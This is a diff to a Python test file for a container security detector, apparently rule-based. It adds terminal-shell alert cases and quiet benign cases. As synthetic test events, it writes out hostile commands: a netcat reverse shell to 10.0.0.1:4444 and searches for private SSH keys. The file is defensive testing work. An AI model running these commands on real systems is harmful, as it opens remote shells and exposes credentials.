@@ -19,6 +19,13 @@ def rs():
 
 def ev(kind, name="busybox", args=None, pname="sh", exe=None, host=False, **kw):
     args = args or [name]
+    extra = {k[5:]: kw.pop(k) for k in list(kw) if k.startswith("proc_")}
+    e = _ev(kind, name, args, pname, exe, host, **kw)
+    e["proc"].update(extra)
+    return e
+
+
+def _ev(kind, name, args, pname, exe, host, **kw):
     return {"id": new_event_id("n1"), "ts": 1_700_000_000_000_000_000, "node": "n1", "kind": kind,
             "pid": 4242, "tid": 4242, "ppid": 4000, "uid": 0, "gid": 0, "comm": name[:15], "cgroup_id": 77,
             "proc": {"exe": exe or f"/bin/{name}", "args": args, "cmdline": " ".join(args), "name": name,
@@ -36,7 +43,8 @@ def execev(argv, pname="sh", filename=None, **kw):
 O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC = 0, 1, 0o100, 0o1000
 
 CASES = [
-    ("Shell spawned in a container", execev(["sh", "-c", "id"], pname="nginx")),
+    ("Terminal shell in container", execev(["sh"], pname="bash", proc_tty=34816)),
+    ("Terminal shell in container", execev(["bash", "-i"], pname="python3", proc_tty=34817)),
     ("Netcat remote code execution", execev(["nc", "10.0.0.1", "4444", "-e", "/bin/sh"])),
     ("Search for private keys", execev(["find", "/", "-name", "id_rsa"])),
     ("Search for private keys", execev(["grep", "-r", "BEGIN PRIVATE", "/home"])),
@@ -89,6 +97,9 @@ CASES = [
 QUIET = [
     execev(["sh", "-c", "ls /"], pname="runc"),            # a container's entrypoint shell
     execev(["sh", "-c", "ls /"], pname="conmon"),
+    execev(["sh", "-c", "run-parts /etc/periodic/15min"], pname="crond", proc_tty=0),  # cron job, no terminal
+    execev(["sh", "/app/healthcheck.sh"], pname="sh", proc_tty=0),
+    execev(["sh"], pname="bash", proc_tty=34816, host=True),   # a terminal shell on the host
     execev(["ls", "-l", "/"]), execev(["cat", "/etc/hostname"]), execev(["sleep", "1"]),
     execev(["nc", "-z", "localhost", "8080"]),             # a health check (nc -l now alerts: a listener)
     execev(["find", "/", "-name", "*.conf"]),
